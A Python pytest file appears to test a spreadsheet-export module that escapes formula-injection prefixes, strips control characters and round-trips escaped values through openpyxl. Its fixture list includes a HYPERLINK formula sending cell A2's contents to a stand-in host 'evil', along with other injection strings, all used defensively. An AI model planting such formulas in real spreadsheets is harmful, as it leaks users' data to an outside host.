"""Spreadsheet cells: formulas are never run, escaping round-trips."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from fangkong.core.spreadsheet import (
    formula_safe,
    formula_unescape,
    has_control_characters,
    xml_safe,
)

DANGEROUS = [
    '=HYPERLINK("http://evil/?"&A2,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_prefixes_are_escaped(text: str) -> None:
    assert formula_safe(text).startswith("'")


@pytest.mark.parametrize(
    "text", [*DANGEROUS, "张三", "'", "''", "'=x", "'abc", "", "桐乡市乌镇镇", "a=b"]
)
def test_escaping_round_trips(text: str) -> None:
    assert formula_unescape(formula_safe(text)) == xml_safe(text)


def test_plain_values_pass_through() -> None:
    assert formula_safe("张三") == "张三"
    assert formula_safe(12) == 12
    assert formula_safe(None) is None
    day = dt.date(2022, 7, 1)
    assert formula_safe(day) == day


def test_control_characters_are_dropped() -> None:
    assert formula_safe("a\x00b\x1fc\td\ne\x7f") == "abc\td\ne"


@pytest.mark.parametrize("text", ["\x00", "a\x01", "\x0b", "\x0c", "b\x1f", "\x7f"])
def test_the_control_characters_refused_at_input_are_those_an_export_drops(text: str) -> None:
    # One pattern: what an input refuses is exactly what an export would drop.
    assert has_control_characters(text)
    assert not has_control_characters(xml_safe(text))


def test_tab_and_line_breaks_are_text() -> None:
    assert not has_control_characters("一楼\t二楼\r\n三楼")


def test_an_escaped_cell_is_stored_as_text_not_a_formula() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([formula_safe(t) for t in DANGEROUS])
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert all(c.data_type == "s" for c in cells)
    # XML stores a carriage return as a line feed; every other value comes back as written.
    assert [formula_unescape(c.value) for c in cells][:-1] == DANGEROUS[:-1]
    assert cells[-1].value.startswith("'")
